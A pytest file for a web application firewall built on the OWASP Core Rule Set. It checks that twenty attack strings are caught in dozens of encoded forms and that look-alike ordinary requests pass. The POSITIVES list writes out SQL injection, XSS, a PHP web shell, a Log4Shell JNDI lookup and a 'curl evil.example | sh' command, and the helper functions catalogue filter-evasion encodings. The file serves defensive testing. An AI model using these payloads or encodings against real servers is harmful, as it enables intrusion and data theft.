"""Attacks are found in every place and form that servers decode, and ordinary values in the same places pass.

CRS at paranoia level 1 with the default configuration. Positive texts are such as are found as a plain argument.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote, urlencode

import pytest

from starfort._engine import RuleSet
from starfort.config.rules import Rules
from starfort.threats.rulesets.overlay import compile_rules
from tests.support.rule_sets import installed_crs

AGENT: Final = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
)
FORM: Final = "application/x-www-form-urlencoded"
MULTIPART: Final = "multipart/form-data; boundary=B"
THRESHOLD: Final = 5

Request = dict[str, Any]


def get(path: str = "/", *headers: tuple[str, str]) -> Request:
    """A request without a body."""
    return {"path": path, "headers": list(headers), "body": b"", "type": ""}


def post(body: Any, content_type: str = "application/json", path: str = "/graphql") -> Request:
    """A request with a body: text as it is, anything else as JSON."""
    text = body if isinstance(body, str) else json.dumps(body)
    return {"path": path, "headers": [], "body": text.encode(), "type": content_type}


def part(name: str, value: str) -> str:
    """A multipart body with one field."""
    return f'--B\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n--B--\r\n'


def percent(text: str | bytes) -> str:
    """Every byte escaped."""
    return "".join(f"%{byte:02X}" for byte in (text.encode() if isinstance(text, str) else text))


def standard(text: str) -> str:
    """Base64."""
    return base64.b64encode(text.encode()).decode()


def url_safe(text: str) -> str:
    """Base64 of URLs, without padding."""
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def token(claims: Any) -> str:
    """A JSON Web Token with a signature that is none."""
    return f"{url_safe(json.dumps({'alg': 'HS256'}))}.{url_safe(json.dumps(claims))}.c2lnbmF0dXJl"


def fullwidth(text: str) -> str:
    """Each character in its fullwidth form."""
    return "".join("\u3000" if letter == " " else chr(ord(letter) + 0xFEE0) for letter in text)


def overlong(text: str) -> bytes:
    """Each character in two bytes."""
    return b"".join(bytes([0xC0 | code >> 6, 0x80 | code & 63]) for code in text.encode())


def units(text: str, mark: str) -> str:
    """Each character as four digits behind a mark."""
    return "".join(f"{mark}{ord(letter):04x}" for letter in text)


def escaped(text: str) -> str:
    """As text of XML."""
    for letter, reference in {"&": "&amp;", "<": "&lt;", "'": "&#39;", '"': "&quot;"}.items():
        text = text.replace(letter, reference)
    return text


def operation(literal: str) -> str:
    """A document with a literal as argument."""
    return f"query Q($first: Int = 3) {{ user(id: {literal}, first: $first) {{ name }} }}"


POSITIVES: Final = [
    "' OR '1'='1' -- x",
    "1 UNION SELECT password FROM users",
    "1'; DROP TABLE users; --",
    "1 AND SLEEP(5)",
    "admin'/**/OR/**/1=1#",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(document.cookie)>",
    "javascript:alert(document.domain)",
    "; cat /etc/passwd",
    "$(curl http://evil.example/x|sh)",
    "`id`;whoami",
    "../../../../etc/passwd",
    "<?php system($_GET['c']); ?>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "require('child_process').exec('id')",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "*)(uid=*))(|(uid=*",
    "x' || this.password.match(/a/) || 'a'=='b",
]
"""CRS and Starfort's own rules find each of these as a plain argument."""

FORMS: Final[dict[str, Callable[[str], Request]]] = {
    "argument": lambda text: get(f"/a?q={quote(text, safe='')}"),
    "graphql string": lambda text: post({"query": operation(json.dumps(text))}),
    "graphql escapes": lambda text: post({"query": operation(f'"{units(text, chr(92) + "u")}"')}),
    "graphql block string": lambda text: post({"query": operation(f'"""{text}"""')}),
    "graphql object": lambda text: post(
        {"query": f"mutation {{ a(input: {{x: [{{y: {json.dumps(text)}}}]}}) {{ id }} }}"}
    ),
    "graphql directive": lambda text: post({"query": f"{{ user @d(x: {json.dumps(text)}) {{ name }} }}"}),
    "graphql default": lambda text: post(
        {"query": f"query Q($a: String = {json.dumps(text)}) {{ user(id: $a) {{ name }} }}"}
    ),
    "graphql comment": lambda text: post({"query": f"{{ user {{ name }} # {text}\n}}"}),
    "graphql variable": lambda text: post(
        {"query": "query Q($a: ID) { a(b: $a) }", "variables": {"a": text}}
    ),
    "graphql batch": lambda text: post([{"query": operation(json.dumps(text))}]),
    "graphql Base64": lambda text: post({"query": operation(f'"{standard(text)}"')}),
    "graphql get": lambda text: get(f"/graphql?{urlencode({'query': operation(json.dumps(text))})}"),
    "graphql get variables": lambda text: get(
        f"/graphql?{urlencode({'query': 'query Q($a: ID) { a(b: $a) }', 'variables': json.dumps({'a': text})})}"
    ),
    "graphql body": lambda text: post(operation(json.dumps(text)), "application/graphql"),
    "graphql multipart": lambda text: post(
        part("operations", json.dumps({"query": operation(json.dumps(text))})), MULTIPART
    ),
    "graphql multipart variables": lambda text: post(
        part("operations", json.dumps({"query": "{ a }", "variables": {"x": text}})), MULTIPART
    ),
    "JSON in JSON": lambda text: post({"q": json.dumps({"a": text})}),
    "JSON in JSON in JSON": lambda text: post({"q": json.dumps({"a": json.dumps([text])})}),
    "escapes of JSON in JSON": lambda text: post({"q": f'{{"a": "{units(text, chr(92) + "u")}"}}'}),
    "JSON in a query": lambda text: get(f"/a?q={quote(json.dumps({'a': {'b': text}}), safe='')}"),
    "JSON in a form": lambda text: post(urlencode({"q": json.dumps([text])}), FORM),
    "JSON in a cookie": lambda text: get("/", ("cookie", f"p={quote(json.dumps({'a': text}), safe='')}")),
    "XML in JSON": lambda text: post({"q": f"<o><n>{escaped(text)}</n></o>"}),
    "attribute of XML in JSON": lambda text: post({"q": f'<o n="{escaped(text)}"/>'}),
    "attribute of XML": lambda text: post(f'<o n="{escaped(text)}"/>', "application/xml"),
    "Base64 in JSON": lambda text: post({"q": standard(text)}),
    "Base64 in a query": lambda text: get(f"/a?q={url_safe(text)}"),
    "Base64 in a query, plus as it is": lambda text: get(f"/a?q={standard(text)}"),
    "Base64 in a cookie": lambda text: get("/", ("cookie", f"p={standard(text)}")),
    "Base64 in a header": lambda text: get("/", ("x-data", standard(text))),
    "Base64 in XML": lambda text: post(f"<o>{standard(text)}</o>", "application/xml"),
    "Base64 in a path": lambda text: get(f"/users/{url_safe(text)}"),
    "Base64 of JSON": lambda text: post({"q": standard(json.dumps({"a": text}))}),
    "Base64 of Base64": lambda text: post({"q": standard(standard(text))}),
    "Base64 of JSON in JSON": lambda text: post({"q": json.dumps({"a": standard(json.dumps([text]))})}),
    "digits in JSON": lambda text: post({"q": text.encode().hex()}),
    "digits in a query": lambda text: get(f"/a?q={text.encode().hex()}"),
    "Basic user": lambda text: get(
        "/", ("authorization", f"Basic {standard(text.replace(':', ';') + ':x')}")
    ),
    "Basic password": lambda text: get("/", ("authorization", f"Basic {standard('anna:' + text)}")),
    "claim": lambda text: get("/", ("authorization", f"Bearer {token({'sub': text})}")),
    "nested claim": lambda text: get("/", ("authorization", f"Bearer {token({'a': {'roles': [text]}})}")),
    "claim in a cookie": lambda text: get("/", ("cookie", f"t={token({'sub': text})}")),
    "claim in JSON": lambda text: post({"t": token({"sub": text})}),
    "other credentials": lambda text: get("/", ("authorization", f"Bearer {text}")),
    "percent in a cookie": lambda text: get("/", ("cookie", f"p={percent(text)}")),
    "percent twice in a cookie": lambda text: get("/", ("cookie", f"p={percent(percent(text))}")),
    "percent twice in a query": lambda text: get(f"/a?q={percent(percent(text))}"),
    "percent in JSON": lambda text: post({"q": percent(text)}),
    "fullwidth in JSON": lambda text: post({"q": fullwidth(text)}),
    "fullwidth in a query": lambda text: get(f"/a?q={quote(fullwidth(text))}"),
    "fullwidth in a cookie": lambda text: get("/", ("cookie", f"p={quote(fullwidth(text))}")),
    "fullwidth in a path": lambda text: get(f"/a/{quote(fullwidth(text))}"),
    "overlong in a query": lambda text: get(f"/a?q={percent(overlong(text))}"),
    "overlong in a path": lambda text: get(f"/a/{percent(overlong(text))}"),
    "overlong in a form": lambda text: post(f"q={percent(overlong(text))}", FORM),
    "%u in a query": lambda text: get(f"/a?q={units(text, '%u')}"),
    "%u in JSON": lambda text: post({"q": units(text, "%u")}),
    "%u in a path": lambda text: get(f"/a/{units(text, '%u')}"),
    "path": lambda text: get(f"/users/{quote(text, safe='')}"),
    "path, in the middle": lambda text: get(f"/users/{quote(text, safe='')}/orders"),
    "header": lambda text: get("/", ("x-tenant", text)),
    "header without x": lambda text: get("/", ("tenant-name", text)),
    "percent in a header": lambda text: get("/", ("x-tenant", percent(text))),
    "JSON in a header": lambda text: get("/", ("x-context", json.dumps({"a": text}))),
    "X-Forwarded-For": lambda text: get("/", ("x-forwarded-for", text)),
}

OPERATIONS: Final = [
    "query A($first: Int) { a(first: $first) { id } }",
    "query A($after: String, $filter: F, $where: W) { a(after: $after, filter: $filter, where: $where) { id } }",
    "mutation Login($input: LoginInput!) { login(input: $input) { token user { id } } }",
    "subscription S($type: T!, $text: String!) { s(type: $type, text: $text) { id } }",
    "query Q($exists: Boolean, $in: [Int], $or: [F], $ne: ID) { a(in: $in, or: $or, e: $exists, ne: $ne) { id } }",
    "{ user(id: 1) { name, email } }",
    "{ __schema { types { ...T } } } fragment T on __Type { kind fields(includeDeprecated: true) { name } }",
    "{ left: hero(e: EMPIRE) { ...f } right: hero(e: JEDI) { ...f } } fragment f on C { friends(first: 3) { id } }",
    'query { products(filter: {price: {gte: 10}, name: {contains: "shirt"}}, sort: [{field: "price"}]) { id } }',
    'query { posts(where: {published: {_eq: true}, at: {_gt: "2024-01-01T00:00:00Z"}}) { id title } }',
    "# Who am I?\nquery Me {\n  me { # logged in\n    id\n  }\n}",
    '{ node(id: "VXNlcjoxMjM=") { id ... on User { name } } }',
    "query { system { env { id who host ping } exec { ls cat } select { from where } history { drop table } } }",
    'mutation { addTodo(text: "Buy milk, eggs & bread; call Anna (don\'t forget!)", due: "2026-12-01") { id } }',
    'mutation { updatePage(id: "42", html: """\n  Hello,\n    World!\n""") { id } }',
    "query Q($a: Boolean!) { user { name @include(if: $a) mail @skip(if: $a) } }",
    'query { file(path: "/src/index.ts", ref: "refs/heads/main") { content } }',
    "query GetUser($id: ID!) { sleep(seconds: 5) { ok } user(id: $id) { version } database { name } }",
]

PATHS: Final = [
    "/users/anna.schmidt@example.com",
    "/users/anna%40example.com/orders",
    "/v1/files/My%20Report%20(final).pdf",
    "/v1/files/O'Brien%20%26%20Sons%20(2024).pdf",
    "/odata/Products(1)",
    "/odata/People('russellwhyte')",
    "/odata/Orders(1)/Items(ProductID=1,LocationID=2)",
    "/odata/$metadata",
    "/odata/Products/$count",
    "/$batch",
    "/fhir/Patient/$everything",
    "/cars;color=red;year=2012/parts",
    "/v4/projects/group%2Fapp/issues/3",
    "/v4/projects/group%2Fapp/repository/files/src%2Findex.ts/raw",
    "/reports/2024-01-31T10:00:00+01:00",
    "/nodes/VXNlcjoxMjM=",
    f"/nodes/{url_safe('gid://shop/Product/123?x=1')}",
    "/v1/customers:batchGet",
    "/v1/projects/p/databases/(default)/documents/users",
    "/npm/@babel/core/-/core-7.0.0.tgz",
    "/search/caf%C3%A9",
    "/wiki/%EF%BC%88%E6%A0%AA%EF%BC%89",
    "/coords/@52.52,13.405,15z",
    "/arn/arn:aws:s3:::my-bucket%2Fkey",
    "/img/w_300,h_200,c_fill/https://example.com/a.jpg",
    "/v1/products/50%25-off",
    "/names/Rock'n'Roll",
    "/articles/how-to-drop-a-table-in-sql",
    f"/token/{token({'sub': 'anna', 'scope': 'read write'})}",
    "/sleep/select/from/where/union",
]

CLAIMS: Final[list[dict[str, Any]]] = [
    {"sub": "auth0|5f7c8ec7", "aud": ["https://api.example.com"], "scope": "openid profile read:orders"},
    {"name": 'Anna <b>O\'Neill</b> & "Co"', "https://example.com/claims": {"x": "y"}},
    {"sub": "system:serviceaccount:default:sa", "kubernetes.io": {"namespace": "default"}},
]

HEADERS: Final = [
    ("x-request-id", "f47ac10b-58cc-4372-a567-0e02b2c3d479"),
    ("x-forwarded-for", "203.0.113.9, 2001:db8::1"),
    ("x-original-url", "/a/b?c=d&e=f"),
    ("x-callback-url", "https://example.com/hook?token=abc&x=1"),
    (
        "stripe-signature",
        "t=1492774577,v1=5257a869e7ecebeda32affa62cdca3fa,v0=6ffbb59b2300aae63f272406069a9788",
    ),
    (
        "signature",
        'keyId="x",algorithm="rsa-sha256",headers="(request-target) host date",signature="k1x/a+c=="',
    ),
    ("x-signature", 'keyId="x",algorithm="rsa-sha256",headers="(request-target) host",signature="k1x/a+c=="'),
    ("x-amzn-trace-id", "Root=1-5759e988-bd862e3fe1be46a994272793;Parent=53995c3f42cd8ad8;Sampled=1"),
    ("x-client-info", "supabase-js/2.38.0; platform=web"),
    ("x-date", "Tue, 15 Nov 1994 08:12:31 GMT"),
    ("x-user-name", "Anna O'Neill"),
    ("x-user", '{"id":1,"name":"Anna","roles":["admin","user"]}'),
    ("x-app-version", "1.2.3 (Build 456; iOS 17.0)"),
    ("x-query", 'name eq "Anna" and age gt 5'),
    ("x-tenant", "acme & sons"),
    ("baggage", "userId=alice,serverNode=DF%2028"),
    ("sec-ch-ua", '"Chromium";v="124", "Not-A.Brand";v="99"'),
    ("if-none-match", 'W/"67ab43", "54ed21"'),
    ("authorization", f"Basic {standard('anna.schmidt@example.com:correct horse battery staple')}"),
    ("authorization", f"Basic {standard('DOMAIN' + chr(92) + 'user:p@ss:word')}"),
    ("authorization", "Bearer ya29.a0AfH6SMBx-abc_def/ghi+jkl=="),
    (
        "authorization",
        'Digest username="Mufasa", realm="a@example.org", uri="/dir/index.html", nonce="7y/x+9"',
    ),
    (
        "authorization",
        "AWS4-HMAC-SHA256 Credential=AKIA/20130524/us-east-1/s3/aws4_request, SignedHeaders=host;range, Signature=fe5f",
    ),
    *(("authorization", f"Bearer {token(claims)}") for claims in CLAIMS),
    (
        "cookie",
        f"prefs={percent('{' + chr(34) + 'theme' + chr(34) + ':' + chr(34) + 'dark' + chr(34) + '}')}",
    ),
    ("cookie", f"state={quote(json.dumps({'url': 'https://example.com/a?b=c&d=e', 'cols': ['a', 'b']}))}"),
    ("cookie", f"session={token(CLAIMS[0])}; amp={standard(json.dumps({'deviceId': 'a', 'optOut': False}))}"),
]

VALUES: Final = [
    "VXNlcjoxMjM=",
    standard("Hello, World! How are you?"),
    standard(json.dumps({"cursor": {"id": 5, "created": "2024-01-01"}})),
    standard("name,age\nAnna,5\nBob,6\n"),
    "d41d8cd98f00b204e9800998ecf8427e",
    "68656c6c6f20776f726c64",
    '{"filter":{"price":{"gte":5}},"sort":["-name"]}',
    "<note><to>Anna</to><body>Don't forget (Monday)!</body></note>",
    "<p>Hello <b>world</b></p>",
    "https://example.com/a%20b?c=%2Fd",
    "https%3A%2F%2Fexample.com%2Fcallback%3Fcode%3Dabc%26state%3Dxyz",
    "100% sure, 50%off %20 x",
    "\uff08\u682a\uff09\u30c6\u30b9\u30c8\uff01 \uff21\uff22\uff23",
    "It's 5 o'clock; let's go",
    "%u4e2d%u6587",
    token(CLAIMS[1]),
]


def benign() -> list[Any]:
    """Ordinary requests, each named by what is ordinary about it."""
    cases: list[tuple[str, Request]] = []
    for text in OPERATIONS:
        variables = {"id": "1", "first": 10, "filter": {"a": 1}}
        cases += [
            (text, post({"query": text, "variables": variables, "operationName": "Q"})),
            (f"batch {text}", post([{"query": text}, {"query": text}])),
            (
                f"get {text}",
                get(f"/graphql?{urlencode({'query': text, 'variables': json.dumps(variables)})}"),
            ),
            (f"body {text}", post(text, "application/graphql")),
            (f"multipart {text}", post(part("operations", json.dumps({"query": text})), MULTIPART)),
        ]
    persisted = {"persistedQuery": {"version": 1, "sha256Hash": "ecf4edb46db40b5132295c0291d62fb65d6759a9"}}
    cases.append(("persisted", get(f"/graphql?{urlencode({'extensions': json.dumps(persisted)})}")))
    cases += [(path, get(path)) for path in PATHS]
    cases += [(f"{name}: {value}", get("/", (name, value))) for name, value in HEADERS]
    for value in VALUES:
        cases += [
            (f"query {value}", get(f"/a?text={quote(value, safe='')}")),
            (f"form {value}", post(urlencode({"text": value}), FORM)),
            (f"json {value}", post({"text": value})),
            (f"cookie {value}", get("/", ("cookie", f"t={quote(value, safe='')}"))),
            (f"header {value}", get("/", ("x-text", quote(value, safe=" ")))),
            (f"path {value}", get(f"/a/{quote(value, safe='')}")),
        ]
    return [pytest.param(request, id=name) for name, request in cases]


def compiled(**settings: Any) -> RuleSet:
    """CRS and Starfort's own rules."""
    return RuleSet(compile_rules(Rules(**settings), Path()).compiled.data)


@pytest.fixture(scope="module", autouse=True)
def crs(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    """CRS is installed."""
    with installed_crs(tmp_path_factory.mktemp("rulesets")):
        yield


@pytest.fixture(scope="module")
def engine(crs: None) -> RuleSet:
    """The rules as they come."""
    return compiled()


def inspect(engine: RuleSet, request: Request) -> dict[str, Any]:
    """What rules say of a request."""
    body = request["body"]
    headers = [("host", "api.example.com"), ("user-agent", AGENT), ("accept", "application/json")]
    if body:
        headers += [("content-type", request["type"]), ("content-length", str(len(body)))]
    return engine.inspect(
        {
            "method": "POST" if body else "GET",
            "uri": request["path"],
            "protocol": "HTTP/1.1",
            "headers": [*headers, *request["headers"]],
            "body": body,
            "remote_addr": "203.0.113.9",
        }
    )


@pytest.mark.parametrize("form", FORMS)
def test_what_is_found_in_plain_is_found_in_each_form(form: str, engine: RuleSet) -> None:
    """Twenty attacks, in one place and form."""
    missed = {text for text in POSITIVES if inspect(engine, FORMS[form](text))["interruption"] is None}
    # people put any character into a password, so words between backticks are none of an attack there
    assert not missed - ({"`id`;whoami"} if form == "Basic password" else set())


@pytest.mark.parametrize("request_", benign())
def test_ordinary_requests_pass(request_: Request, engine: RuleSet) -> None:
    """Twins of the attacks, in the same places and forms, stay below the threshold."""
    answer = inspect(engine, request_)
    found = {match["id"]: match["vars"] for match in answer["matched"] if match["log"]}
    assert answer["interruption"] is None, found


def test_places_can_be_turned_off() -> None:
    """Then rules look at arguments alone."""
    request = FORMS["header"](POSITIVES[0])
    assert inspect(compiled(), request)["score"] >= THRESHOLD
    assert inspect(compiled(places=False), request)["score"] == 0


def test_an_exclusion_of_a_parameter_holds_for_its_decoded_values() -> None:
    """And for no other parameter's."""
    excluding = compiled(exclusions=[{"tag": "attack-sqli", "parameter": "json.text"}])
    assert inspect(excluding, post({"text": standard(POSITIVES[0])}))["score"] == 0
    assert inspect(excluding, post({"more": standard(POSITIVES[0])}))["score"] >= THRESHOLD


def test_operators_in_names_of_decoded_values_are_found(engine: RuleSet) -> None:
    """MongoDB's, in JSON that a cookie or Base64 holds; keys that begin with a dollar and are no operator pass."""
    attack, ordinary = ({"password": {"$ne": None}}, {"$device_id": "a", "$initial_referrer": "$direct"})
    for value in (quote(json.dumps(attack)), standard(json.dumps(attack))):
        answer = inspect(engine, get("/", ("cookie", f"p={value}")))
        assert 9_531_000 in {match["id"] for match in answer["matched"]}
    assert inspect(engine, get("/", ("cookie", f"p={quote(json.dumps(ordinary))}")))["interruption"] is None
